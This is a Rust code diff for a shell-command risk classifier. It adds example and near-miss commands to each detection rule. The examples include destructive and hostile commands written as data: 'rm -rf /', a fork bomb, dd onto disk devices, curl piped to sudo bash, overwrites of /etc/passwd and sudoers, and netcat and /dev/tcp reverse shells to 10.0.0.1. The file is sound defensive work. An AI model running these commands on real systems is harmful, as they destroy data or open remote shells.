@@ -2,8 +2,9 @@
 //! shell command's dangerous parts are ASCII, and ASCII classes keep the set
 //! small and quick to compile on every `caro history add`.
 //!
-//! Each rule has a test in this file (`rule_*`), and `everyday_commands_are_safe`
-//! guards against false alarms.
+//! Each rule carries its own examples (commands it must decide) and near
+//! misses (commands it must leave alone); one test checks them all, and
+//! `everyday_commands_are_safe` guards against false alarms.
 
 use super::RiskLevel::{self, Critical, High, Moderate};
 
@@ -20,6 +21,10 @@ pub struct Rule {
     pub pattern: &'static str,
     /// Stored in `safety_warnings`.
     pub warning: &'static str,
+    /// Commands this rule must decide, rated at its level.
+    pub examples: &'static [&'static str],
+    /// Commands close to the examples that this rule must leave alone.
+    pub near_misses: &'static [&'static str],
 }
 
 /// A command word at the start of a command: after the line start, a
@@ -53,6 +58,14 @@ pub static RULES: &[Rule] = &[
         triggers: &["rm"],
         pattern: rm_recursive!(r#"["']?/\*?["']?"#),
         warning: "recursively deletes everything from the root directory",
+        examples: &[
+            "rm -rf /",
+            "sudo rm -rf /*",
+            "rm -r -f /",
+            "rm -fr --  /",
+            "cd /tmp && rm -rf / tmp",
+        ],
+        near_misses: &["rm -rf ./build", "rm -f /tmp/lock"],
     },
     Rule {
         id: "rm-recursive-home",
@@ -61,6 +74,13 @@ pub static RULES: &[Rule] = &[
         triggers: &["rm"],
         pattern: rm_recursive!(r#"["']?(?:~|\$HOME|\$\{HOME\})/?\*?["']?"#),
         warning: "recursively deletes your whole home directory",
+        examples: &[
+            "rm -rf ~",
+            "rm -rf ~/",
+            "rm -Rf $HOME",
+            r#"rm --recursive "$HOME/""#,
+        ],
+        near_misses: &["rm -rf ~/tmp/cache", r#"rm -rf "$HOME/.cache/pip""#],
     },
     Rule {
         id: "rm-recursive-system-dir",
@@ -71,6 +91,8 @@ pub static RULES: &[Rule] = &[
             r#"["']?/(?:bin|boot|dev|etc|home|lib|lib32|lib64|opt|proc|root|sbin|srv|sys|usr|var|System|Library|Applications|Users)/?\*?["']?"#
         ),
         warning: "recursively deletes a system directory",
+        examples: &["sudo rm -rf /etc", "rm -rf /usr/", "rm -r /var/*"],
+        near_misses: &["rm -rf /var/tmp/build", "rm -rf /etcetera-backup"],
     },
     Rule {
         id: "rm-no-preserve-root",
@@ -79,6 +101,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["rm"],
         pattern: at_command!(r"rm\s[^;&|]*--no-preserve-root\b"),
         warning: "disables rm's protection of the root directory",
+        examples: &["rm -rf --no-preserve-root /tmp/x"],
+        near_misses: &["rm -rf --preserve-root /tmp/x"],
     },
     Rule {
         id: "dd-to-disk",
@@ -87,6 +111,14 @@ pub static RULES: &[Rule] = &[
         triggers: &["of=/dev/"],
         pattern: r"(?-u)\bdd\s[^;&|]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/)",
         warning: "dd writes straight onto a disk device, destroying what is on it",
+        examples: &[
+            "dd if=image.iso of=/dev/sdb bs=4M",
+            "sudo dd if=/dev/zero of=/dev/nvme0n1",
+        ],
+        near_misses: &[
+            "dd if=/dev/zero of=test.img bs=1M count=10",
+            "dd if=/dev/sda of=backup.img",
+        ],
     },
     Rule {
         id: "redirect-to-disk",
@@ -104,6 +136,8 @@ pub static RULES: &[Rule] = &[
         ],
         pattern: r"(?-u)>\s*/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|rdisk\d)",
         warning: "output redirected onto a disk device overwrites its contents",
+        examples: &["cat image.img > /dev/sda", "echo hi >/dev/nvme0"],
+        near_misses: &["cat /dev/sda > disk.img", "echo hi > /dev/null"],
     },
     Rule {
         id: "mkfs",
@@ -112,6 +146,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["mkfs", "mke2fs", "newfs"],
         pattern: at_command!(r"(?:mkfs(?:\.\w+)?|mke2fs|mkfs_\w+|newfs(?:_\w+)?)\b"),
         warning: "creating a filesystem erases everything on the device",
+        examples: &["mkfs.ext4 /dev/sdb1", "sudo mkfs -t xfs /dev/vdb"],
+        near_misses: &["man mkfs", "echo mkfs.ext4 is slow"],
     },
     Rule {
         id: "wipe-disk",
@@ -120,6 +156,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["shred", "wipefs", "blkdiscard"],
         pattern: at_command!(r"(?:shred|wipefs|blkdiscard)\s[^;&|]*/dev/"),
         warning: "wipes a disk device",
+        examples: &["wipefs -a /dev/sdb", "shred -n 3 /dev/sda"],
+        near_misses: &["shred -u secrets.txt"],
     },
     Rule {
         id: "fork-bomb",
@@ -128,6 +166,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["()"],
         pattern: r"(?-u)[\w:.]+\s*\(\)\s*\{[^}]*\|[^}]*&[^}]*\}\s*;",
         warning: "fork bomb: spawns processes until the system stops responding",
+        examples: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
+        near_misses: &["f() { echo hi; }; f", "build() { make | tee log; }; build"],
     },
     Rule {
         id: "curl-pipe-sudo-shell",
@@ -136,6 +176,14 @@ pub static RULES: &[Rule] = &[
         triggers: &["sudo"],
         pattern: r"(?-u)\b(?:curl|wget|fetch)\s[^;&|]*\|\s*sudo\s+(?:-\S+\s+)*(?:\w+=\S*\s+)*(?:(?:ba|z|k|da|fi)?sh|python[0-9.]*|perl|ruby|node)\b",
         warning: "runs a script downloaded from the network as root, unread",
+        examples: &[
+            "curl -fsSL https://example.com/install.sh | sudo bash",
+            "wget -qO- https://x.io/i | sudo -E sh",
+        ],
+        near_misses: &[
+            "curl -s https://x.io/key.gpg | sudo apt-key add -",
+            "curl -fsSL https://x.io/k | sudo tee /etc/apt/keyrings/x.asc",
+        ],
     },
     Rule {
         id: "overwrite-auth-files",
@@ -144,6 +192,11 @@ pub static RULES: &[Rule] = &[
         triggers: &["/etc/passwd", "/etc/shadow", "/etc/gshadow", "/etc/sudoers"],
         pattern: r"(?-u)(?:>{1,2}\s*|\btee\s+(?:-a\s+)?)/etc/(?:passwd|shadow|gshadow|sudoers)\b",
         warning: "overwrites the system's accounts or sudo rules",
+        examples: &[
+            "echo 'root::0:0::/root:/bin/sh' > /etc/passwd",
+            "echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
+        ],
+        near_misses: &["cat /etc/passwd", "grep me /etc/sudoers"],
     },
     Rule {
         id: "sysrq-trigger",
@@ -152,6 +205,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["sysrq-trigger"],
         pattern: r"(?-u)/proc/sysrq-trigger\b",
         warning: "sends a raw command to the kernel (can crash or reboot at once)",
+        examples: &["echo c > /proc/sysrq-trigger"],
+        near_misses: &["cat /proc/sys/kernel/sysrq"],
     },
     // --- high -----------------------------------------------------------
     Rule {
@@ -161,6 +216,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["rm"],
         pattern: rm_recursive!(r#"["']?(?:\*|\.|\.\.|\./\*|\.\./?\*?)["']?"#),
         warning: "recursively deletes everything in the current or parent directory",
+        examples: &["rm -rf *", "rm -rf .", "rm -r ../"],
+        near_misses: &["rm -rf ./build", "rm -f *.log"],
     },
     Rule {
         id: "rm-recursive-variable",
@@ -170,6 +227,8 @@ pub static RULES: &[Rule] = &[
         pattern: rm_recursive!(r#"["']?\$\{?\w+\}?/["']?\*?["']?"#),
         warning:
             "recursive delete of a path built from a variable: if it is empty, this deletes from /",
+        examples: &[r#"rm -rf "$STEAMROOT/"*"#, "rm -rf $BUILD_DIR/"],
+        near_misses: &[r#"rm -rf "$BUILD_DIR/out""#, "rm -f $TMPFILE"],
     },
     Rule {
         id: "curl-pipe-shell",
@@ -178,6 +237,15 @@ pub static RULES: &[Rule] = &[
         triggers: &["curl", "wget", "fetch"],
         pattern: r"(?-u)\b(?:curl|wget|fetch)\s[^;&|]*\|\s*(?:(?:ba|z|k|da|fi)?sh\b|(?:python[0-9.]*|perl|ruby|node)(?:\s+-)?\s*(?:$|[;&|]))",
         warning: "runs a script downloaded from the network without reading it",
+        examples: &[
+            "curl -fsSL https://get.example.sh | sh",
+            "wget -qO- https://x.io/i | bash -s -- --yes",
+            "curl https://x.io/setup.py | python3 -",
+        ],
+        near_misses: &[
+            "curl -s https://api.example.com | python3 -m json.tool",
+            "curl -fsSL https://x.io/install.sh -o install.sh",
+        ],
     },
     Rule {
         id: "shell-eval-remote",
@@ -186,6 +254,15 @@ pub static RULES: &[Rule] = &[
         triggers: &["curl", "wget"],
         pattern: r#"(?-u)(?:\b(?:ba|z|k|da)?sh|\beval|\bsource|(?:^|\s)\.)\s+(?:-c\s+)?["']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b"#,
         warning: "evaluates a script downloaded from the network without reading it",
+        examples: &[
+            r#"sh -c "$(curl -fsSL https://x.io/install.sh)""#,
+            "bash <(curl -s https://x.io/i)",
+            r#"eval "$(wget -qO- https://x.io/env)""#,
+        ],
+        near_misses: &[
+            r#"eval "$(ssh-agent -s)""#,
+            "curl -s https://x.io/i -o i.sh",
+        ],
     },
     Rule {
         id: "chmod-recursive-system",
@@ -194,6 +271,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["chmod"],
         pattern: r#"(?-u)\bchmod\s+(?:-\S+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\S+\s+)*\S+\s+["']?/(?:bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)?/?\*?["']?(?:\s|$|[;&|])"#,
         warning: "recursively changes permissions of the whole system or a system directory",
+        examples: &["chmod -R 777 /", "sudo chmod -R 755 /etc"],
+        near_misses: &["chmod -R u+w build", "sudo chmod -R 755 /var/www/site"],
     },
     Rule {
         id: "chown-recursive-system",
@@ -202,6 +281,11 @@ pub static RULES: &[Rule] = &[
         triggers: &["chown"],
         pattern: r#"(?-u)\bchown\s+(?:-\S+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\S+\s+)*\S+\s+["']?/(?:bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)?/?\*?["']?(?:\s|$|[;&|])"#,
         warning: "recursively changes the owner of the whole system or a system directory",
+        examples: &["sudo chown -R me:me /", "chown -R nobody /usr"],
+        near_misses: &[
+            "chown -R me:me ./project",
+            "sudo chown -R www-data /var/www",
+        ],
     },
     Rule {
         id: "partition-table",
@@ -212,6 +296,8 @@ pub static RULES: &[Rule] = &[
             r"(?:fdisk|sfdisk|gdisk|sgdisk|cfdisk|parted)\s+(?:-[a-km-zA-Z]\S*\s+)*/dev/"
         ),
         warning: "edits a disk's partition table",
+        examples: &["sudo fdisk /dev/sda", "parted /dev/nvme0n1 mklabel gpt"],
+        near_misses: &["sudo fdisk -l /dev/sda", "sudo fdisk -l"],
     },
     Rule {
         id: "mkswap-device",
@@ -220,6 +306,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["mkswap"],
         pattern: at_command!(r"mkswap\s+(?:-\S+\s+)*/dev/"),
         warning: "turns a disk device into swap, erasing it",
+        examples: &["mkswap /dev/sdb2"],
+        near_misses: &["mkswap swapfile"],
     },
     Rule {
         id: "kill-all-processes",
@@ -228,6 +316,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["kill"],
         pattern: r"(?-u)\bkill\s+(?:-(?:9|KILL|SIGKILL|s\s+KILL)\s+)?-1\s*(?:$|[;&|])",
         warning: "kills every process you are allowed to signal",
+        examples: &["kill -9 -1", "kill -KILL -1"],
+        near_misses: &["kill -9 4242", "kill -1 4242"],
     },
     Rule {
         id: "sql-drop",
@@ -236,6 +326,11 @@ pub static RULES: &[Rule] = &[
         triggers: &["drop"],
         pattern: r"(?-u)(?i)\bdrop\s+(?:database|schema|table)\b",
         warning: "drops a database, schema or table",
+        examples: &[
+            "psql -c 'DROP DATABASE prod'",
+            r#"mysql -e "drop table users""#,
+        ],
+        near_misses: &["psql -c 'DROP INDEX idx_users'", "dropdb --help"],
     },
     Rule {
         id: "sql-truncate",
@@ -244,6 +339,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["truncate"],
         pattern: r"(?-u)(?i)\btruncate\s+table\b",
         warning: "empties a table",
+        examples: &["psql -c 'TRUNCATE TABLE orders'"],
+        near_misses: &["truncate -s 10M disk.img"],
     },
     Rule {
         id: "sql-delete-without-where",
@@ -252,6 +349,11 @@ pub static RULES: &[Rule] = &[
         triggers: &["delete"],
         pattern: r#"(?-u)(?i)\bdelete\s+from\s+[\w."`\[\]]+\s*(?:;|$|["'])"#,
         warning: "deletes every row of a table (no WHERE clause)",
+        examples: &[
+            "sqlite3 app.db 'DELETE FROM users;'",
+            r#"psql -c "delete from sessions""#,
+        ],
+        near_misses: &["psql -c 'DELETE FROM users WHERE id = 3'", "delete-me.sh"],
     },
     Rule {
         id: "datastore-flush",
@@ -260,6 +362,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["flushall", "flushdb", ".drop"],
         pattern: r"(?-u)(?i)\bflush(?:all|db)\b|\.drop(?:Database)?\(\s*\)",
         warning: "erases a whole datastore or collection",
+        examples: &["redis-cli FLUSHALL", "mongo app --eval 'db.dropDatabase()'"],
+        near_misses: &["redis-cli ping", "mongo app --eval 'db.users.find()'"],
     },
     Rule {
         id: "kubectl-delete-broad",
@@ -268,6 +372,12 @@ pub static RULES: &[Rule] = &[
         triggers: &["kubectl"],
         pattern: r"(?-u)\bkubectl\s+(?:\S+\s+)*?delete\s+(?:\S+\s+)*?(?:--all\b|--all-namespaces\b|-A\b|(?:namespaces?|ns)\b)",
         warning: "deletes a namespace or every resource of a kind",
+        examples: &[
+            "kubectl delete namespace prod",
+            "kubectl delete pods --all",
+            "kubectl -n x delete ns staging",
+        ],
+        near_misses: &["kubectl delete pod web-1", "kubectl get ns"],
     },
     Rule {
         id: "terraform-destroy",
@@ -276,6 +386,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["terraform", "tofu"],
         pattern: r"(?-u)\b(?:terraform|tofu)\s+(?:-\S+\s+)*(?:destroy\b|apply\s[^;&|]*-destroy\b)",
         warning: "destroys all infrastructure the configuration manages",
+        examples: &["terraform destroy", "tofu apply -destroy"],
+        near_misses: &["terraform plan -destroy", "terraform apply"],
     },
     Rule {
         id: "cloud-storage-delete",
@@ -284,6 +396,15 @@ pub static RULES: &[Rule] = &[
         triggers: &["aws", "gsutil", "gcloud"],
         pattern: r"(?-u)\baws\s+s3\s+(?:rm\s[^;&|]*--recursive|rb\s[^;&|]*--force)\b|\bgsutil\s+(?:-\S+\s+)*rm\s+(?:-\S+\s+)*-[a-zA-Z]*r|\bgcloud\s+storage\s+rm\s[^;&|]*--recursive\b",
         warning: "recursively deletes cloud storage objects or buckets",
+        examples: &[
+            "aws s3 rm s3://bucket --recursive",
+            "aws s3 rb s3://bucket --force",
+            "gsutil -m rm -r gs://b",
+        ],
+        near_misses: &[
+            "aws s3 rm s3://bucket/file.txt",
+            "aws s3 ls s3://bucket --recursive",
+        ],
     },
     Rule {
         id: "repo-delete",
@@ -292,6 +413,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["repo"],
         pattern: r"(?-u)\b(?:gh|glab)\s+repo\s+delete\b",
         warning: "deletes a hosted repository",
+        examples: &["gh repo delete me/project --yes"],
+        near_misses: &["gh repo clone me/project"],
     },
     Rule {
         id: "firewall-flush",
@@ -300,6 +423,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["iptables", "ip6tables", "nft", "ufw"],
         pattern: r"(?-u)\b(?:iptables|ip6tables)\s+(?:-t\s+\w+\s+)?(?:-F|--flush)\b|\bnft\s+flush\s+ruleset\b|\bufw\s+(?:--force\s+)?(?:disable|reset)\b",
         warning: "removes the firewall rules",
+        examples: &["sudo iptables -F", "nft flush ruleset", "ufw disable"],
+        near_misses: &["sudo iptables -L", "ufw enable"],
     },
     Rule {
         id: "ssh-service-stop",
@@ -308,6 +433,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["systemctl", "service"],
         pattern: r"(?-u)\bsystemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?sshd?(?:\.service)?\b|\bservice\s+sshd?\s+stop\b",
         warning: "stops SSH: a remote session may lose its way back in",
+        examples: &["sudo systemctl stop sshd", "systemctl disable --now ssh"],
+        near_misses: &["systemctl status sshd", "sudo systemctl restart sshd"],
     },
     Rule {
         id: "crontab-remove",
@@ -316,6 +443,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["crontab"],
         pattern: r"(?-u)\bcrontab\s+(?:-u\s+\S+\s+)?-r\b",
         warning: "removes all your cron jobs without asking",
+        examples: &["crontab -r"],
+        near_misses: &["crontab -l", "crontab -e"],
     },
     Rule {
         id: "reverse-shell",
@@ -324,6 +453,11 @@ pub static RULES: &[Rule] = &[
         triggers: &["nc", "ncat", "netcat", "/dev/tcp/", "/dev/udp/"],
         pattern: r"(?-u)\b(?:nc|ncat|netcat)\s[^;&|]*-[a-zA-Z]*[ec]\s+/bin/(?:ba|z)?sh\b|-i\s*>&\s*/dev/(?:tcp|udp)/",
         warning: "opens a shell for a remote host (reverse shell)",
+        examples: &[
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        ],
+        near_misses: &["nc -zv example.com 443", "bash -i"],
     },
     Rule {
         id: "passwd-delete",
@@ -332,6 +466,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["passwd"],
         pattern: r"(?-u)\bpasswd\s+(?:-\S+\s+)*-d\b",
         warning: "removes an account's password: anyone can log in as it",
+        examples: &["sudo passwd -d root"],
+        near_misses: &["passwd", "sudo passwd -l bob"],
     },
     Rule {
         id: "mv-to-dev-null",
@@ -340,6 +476,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["mv"],
         pattern: r"(?-u)\bmv\s+(?:\S+\s+)+/dev/null\b",
         warning: "moves files to /dev/null, destroying them",
+        examples: &["mv important.db /dev/null"],
+        near_misses: &["mv notes.txt ~/archive/"],
     },
     Rule {
         id: "mv-root-or-home",
@@ -348,6 +486,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["mv"],
         pattern: r#"(?-u)\bmv\s+(?:-\S+\s+)*["']?(?:/|~|\$HOME)/?\*?["']?\s"#,
         warning: "moves the root or home directory away",
+        examples: &["mv ~ /tmp/old-home", "sudo mv / /mnt"],
+        near_misses: &["mv ~/Downloads/file.iso /tmp/", "mv ./a /tmp/b"],
     },
     Rule {
         id: "find-delete-root",
@@ -356,6 +496,11 @@ pub static RULES: &[Rule] = &[
         triggers: &["find"],
         pattern: r"(?-u)\bfind\s+(?:/|~|\$HOME)/?\s[^;&|]*(?:-delete\b|-exec\s+rm\b)",
         warning: "deletes files found anywhere under / or your home",
+        examples: &[
+            "find / -name '*.log' -delete",
+            "find ~ -type f -exec rm {} +",
+        ],
+        near_misses: &["find . -name '*.pyc' -delete", "find / -name '*.conf'"],
     },
     // --- moderate -------------------------------------------------------
     Rule {
@@ -365,6 +510,12 @@ pub static RULES: &[Rule] = &[
         triggers: &["rm"],
         pattern: rm_recursive!(r"\S+"),
         warning: "recursive delete: check the path, there is no undo",
+        examples: &[
+            "rm -rf node_modules",
+            "rm -r build/",
+            "sudo rm -rf /tmp/cache",
+        ],
+        near_misses: &["rm file.txt", "rm -f *.log", "rmdir empty"],
     },
     Rule {
         id: "find-delete",
@@ -373,6 +524,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["find"],
         pattern: r"(?-u)\bfind\s[^;&|]*(?:-delete\b|-exec\s+rm\b)",
         warning: "deletes every file find matches",
+        examples: &["find . -name '*.pyc' -delete"],
+        near_misses: &["find . -type f -name '*.tmp' -print"],
     },
     Rule {
         id: "chmod-world-writable",
@@ -381,6 +534,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["chmod"],
         pattern: r"(?-u)\bchmod\s+(?:-\S+\s+)*(?:0?777|[ugoa]*o[ugoa]*\+[rx]*w|a\+rwx)\b",
         warning: "makes files writable by every user",
+        examples: &["chmod 777 uploads", "chmod o+w file"],
+        near_misses: &["chmod 755 bin/tool", "chmod 644 file"],
     },
     Rule {
         id: "chmod-setuid",
@@ -389,6 +544,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["chmod"],
         pattern: r"(?-u)\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwxt]*s|[4-7][0-7]{3})\b",
         warning: "sets the setuid/setgid bit: the program runs with its owner's rights",
+        examples: &["chmod u+s /usr/local/bin/tool", "chmod 4755 tool"],
+        near_misses: &["chmod +x script.sh", "chmod 0755 bin/tool"],
     },
     Rule {
         id: "git-force-push",
@@ -397,6 +554,12 @@ pub static RULES: &[Rule] = &[
         triggers: &["git"],
         pattern: r"(?-u)\bgit\s+(?:-\S+\s+)*push\b[^;&|]*?\s(?:--force|-f|--mirror)(?:\s|$)|\bgit\s+push\s+(?:-\S+\s+)*\S+\s+\+\S",
         warning: "force push rewrites the remote branch; others' commits can be lost",
+        examples: &[
+            "git push --force",
+            "git push -f origin main",
+            "git push origin +main",
+        ],
+        near_misses: &["git push --force-with-lease", "git push origin main"],
     },
     Rule {
         id: "git-push-delete",
@@ -405,6 +568,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["git"],
         pattern: r"(?-u)\bgit\s+push\s+(?:\S+\s+)*(?:--delete|-d)\b|\bgit\s+push\s+\S+\s+:\S",
         warning: "deletes a branch or tag on the remote",
+        examples: &["git push origin --delete old", "git push origin :old"],
+        near_misses: &["git push origin main", "git push origin feature/delete-old"],
     },
     Rule {
         id: "git-reset-hard",
@@ -413,6 +578,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["git"],
         pattern: r"(?-u)\bgit\s+reset\s+(?:\S+\s+)*?--hard\b",
         warning: "discards uncommitted changes",
+        examples: &["git reset --hard", "git reset HEAD~3 --hard"],
+        near_misses: &["git reset --soft HEAD~1"],
     },
     Rule {
         id: "git-clean-force",
@@ -421,6 +588,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["git"],
         pattern: r"(?-u)\bgit\s+clean\s+(?:\S+\s+)*?-[a-zA-Z]*f",
         warning: "deletes untracked files",
+        examples: &["git clean -fdx", "git clean -d -f"],
+        near_misses: &["git clean -n"],
     },
     Rule {
         id: "git-discard-worktree",
@@ -429,6 +598,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["git"],
         pattern: r"(?-u)\bgit\s+(?:checkout|restore)\s+(?:--\s+)?\.(?:\s|$)",
         warning: "discards uncommitted changes in the working tree",
+        examples: &["git checkout -- .", "git restore ."],
+        near_misses: &["git checkout main", "git restore --staged file.rs"],
     },
     Rule {
         id: "git-branch-force-delete",
@@ -437,6 +608,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["git"],
         pattern: r"(?-u)\bgit\s+branch\s+(?:\S+\s+)*?(?:-D|--delete\s+--force|-d\s+-f)\b",
         warning: "deletes a branch even if it is not merged",
+        examples: &["git branch -D feature"],
+        near_misses: &["git branch -d merged-feature"],
     },
     Rule {
         id: "git-history-rewrite",
@@ -445,6 +618,11 @@ pub static RULES: &[Rule] = &[
         triggers: &["git"],
         pattern: r"(?-u)\bgit\s+(?:filter-branch|filter-repo)\b|\bgit\s+stash\s+clear\b",
         warning: "rewrites history or drops stashes for good",
+        examples: &[
+            "git filter-branch --tree-filter 'rm x' HEAD",
+            "git stash clear",
+        ],
+        near_misses: &["git stash pop", "git stash list"],
     },
     Rule {
         id: "docker-prune",
@@ -453,6 +631,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["docker"],
         pattern: r"(?-u)\bdocker\s+(?:system|volume|image|container|network|builder)\s+prune\b|\bdocker[- ]compose\s+down\s+(?:\S+\s+)*?(?:-v|--volumes)\b",
         warning: "removes Docker data (volumes, images or containers)",
+        examples: &["docker system prune -a", "docker compose down -v"],
+        near_misses: &["docker compose down", "docker system df"],
     },
     Rule {
         id: "docker-privileged",
@@ -461,6 +641,14 @@ pub static RULES: &[Rule] = &[
         triggers: &["docker"],
         pattern: r"(?-u)\bdocker\s+run\s[^;&|]*(?:--privileged\b|-v\s+/:/)",
         warning: "gives a container full access to the host",
+        examples: &[
+            "docker run --privileged -it ubuntu",
+            "docker run -v /:/host alpine",
+        ],
+        near_misses: &[
+            "docker run -it --rm ubuntu bash",
+            "docker run -v /srv/data:/data alpine",
+        ],
     },
     Rule {
         id: "kubectl-delete",
@@ -469,6 +657,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["kubectl"],
         pattern: r"(?-u)\bkubectl\s+(?:\S+\s+)*?delete\b",
         warning: "deletes cluster resources",
+        examples: &["kubectl delete pod web-1"],
+        near_misses: &["kubectl get pods", "kubectl describe pod web-1"],
     },
     Rule {
         id: "terraform-auto-approve",
@@ -477,6 +667,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["terraform", "tofu"],
         pattern: r"(?-u)\b(?:terraform|tofu)\s+apply\s[^;&|]*-auto-approve\b",
         warning: "applies infrastructure changes without showing the plan",
+        examples: &["terraform apply -auto-approve"],
+        near_misses: &["terraform apply"],
     },
     Rule {
         id: "shutdown-reboot",
@@ -494,6 +686,8 @@ pub static RULES: &[Rule] = &[
             r"(?:shutdown|reboot|halt|poweroff)\b|\binit\s+[06]\b|\bsystemctl\s+(?:poweroff|reboot|halt)\b"
         ),
         warning: "shuts down or restarts the machine",
+        examples: &["sudo reboot", "shutdown -h now", "systemctl poweroff"],
+        near_misses: &["echo reboot required", "terraform init"],
     },
     Rule {
         id: "truncate-file",
@@ -502,6 +696,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["truncate"],
         pattern: r"(?-u)\btruncate\s+(?:-\S+\s+)*(?:-s\s*0|--size[= ]0)\b",
         warning: "empties a file",
+        examples: &["truncate -s 0 app.log"],
+        near_misses: &["truncate -s 10M disk.img"],
     },
     Rule {
         id: "overwrite-dotfile",
@@ -518,6 +714,8 @@ pub static RULES: &[Rule] = &[
         ],
         pattern: r"(?-u)(?:^|[^>])>\s*(?:~|\$HOME)/\.(?:bashrc|zshrc|profile|bash_profile|zprofile|ssh/authorized_keys|ssh/config)\b",
         warning: "overwrites a shell or SSH configuration file",
+        examples: &["echo 'x' > ~/.bashrc"],
+        near_misses: &["echo 'alias g=git' >> ~/.zshrc", "cat ~/.bashrc"],
     },
     Rule {
         id: "clear-shell-history",
@@ -526,6 +724,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["history"],
         pattern: r"(?-u)\bhistory\s+-c\b|>\s*(?:~|\$HOME)/\.(?:bash|zsh)_history\b",
         warning: "erases your shell history",
+        examples: &["history -c", "cat /dev/null > ~/.bash_history"],
+        near_misses: &["history | grep ssh"],
     },
     Rule {
         id: "publish-package",
@@ -534,6 +734,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["publish", "twine", "gem"],
         pattern: r"(?-u)\b(?:npm|yarn|pnpm)\s+publish\b|\bcargo\s+publish\b|\btwine\s+upload\b|\bgem\s+push\b",
         warning: "publishes a package: a release cannot be taken back",
+        examples: &["npm publish", "cargo publish --allow-dirty"],
+        near_misses: &["npm run publish-docs"],
     },
     Rule {
         id: "selinux-disable",
@@ -542,6 +744,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["setenforce"],
         pattern: r"(?-u)\bsetenforce\s+0\b",
         warning: "turns SELinux enforcement off",
+        examples: &["sudo setenforce 0"],
+        near_misses: &["sudo setenforce 1"],
     },
     Rule {
         id: "user-delete",
@@ -550,6 +754,8 @@ pub static RULES: &[Rule] = &[
         triggers: &["userdel", "deluser"],
         pattern: at_command!(r"(?:userdel|deluser)\b"),
         warning: "deletes a user account",
+        examples: &["sudo userdel -r bob"],
+        near_misses: &["man userdel"],
     },
     Rule {
         id: "curl-insecure",
@@ -558,457 +764,52 @@ pub static RULES: &[Rule] = &[
         triggers: &["curl", "wget"],
         pattern: r"(?-u)\b(?:curl\s(?:[^;&|]*\s)?(?:-k|--insecure)|wget\s[^;&|]*--no-check-certificate)\b",
         warning: "turns off TLS certificate checks",
+        examples: &[
+            "curl -k https://internal",
+            "wget --no-check-certificate https://x",
+        ],
+        near_misses: &["curl -K curlrc https://internal", "curl https://internal"],
     },
 ];
 
 #[cfg(test)]
 mod tests {
-    use super::super::{assess, RiskLevel};
+    use super::super::{assess, rule_set, RiskLevel};
     use super::RULES;
 
-    /// `rule!(name, "rule-id", Level, "cmd that fires it", ...)` makes one test
-    /// asserting each command is rated `Level` with `rule-id` among the reasons.
-    macro_rules! rule {
-        ($test:ident, $id:literal, $level:ident, $($cmd:literal),+ $(,)?) => {
-            #[test]
-            fn $test() {
-                assert!(RULES.iter().any(|r| r.id == $id), "no rule {}", $id);
-                for cmd in [$($cmd),+] {
-                    let a = assess(cmd);
-                    assert!(a.rule_ids.contains(&$id), "{cmd:?} should fire {}, got {:?}", $id, a.rule_ids);
-                    assert_eq!(a.level, RiskLevel::$level, "{cmd:?}");
-                }
-            }
-        };
-    }
-
-    rule!(
-        rule_rm_recursive_root,
-        "rm-recursive-root",
-        Critical,
-        "rm -rf /",
-        "sudo rm -rf /*",
-        "rm -r -f /",
-        "rm -fr --  /",
-        "cd /tmp && rm -rf / tmp"
-    );
-    rule!(
-        rule_rm_recursive_home,
-        "rm-recursive-home",
-        Critical,
-        "rm -rf ~",
-        "rm -rf ~/",
-        "rm -Rf $HOME",
-        "rm --recursive \"$HOME/\""
-    );
-    rule!(
-        rule_rm_recursive_system_dir,
-        "rm-recursive-system-dir",
-        Critical,
-        "sudo rm -rf /etc",
-        "rm -rf /usr/",
-        "rm -r /var/*"
-    );
-    rule!(
-        rule_rm_no_preserve_root,
-        "rm-no-preserve-root",
-        Critical,
-        "rm -rf --no-preserve-root /tmp/x"
-    );
-    rule!(
-        rule_dd_to_disk,
-        "dd-to-disk",
-        Critical,
-        "dd if=image.iso of=/dev/sdb bs=4M",
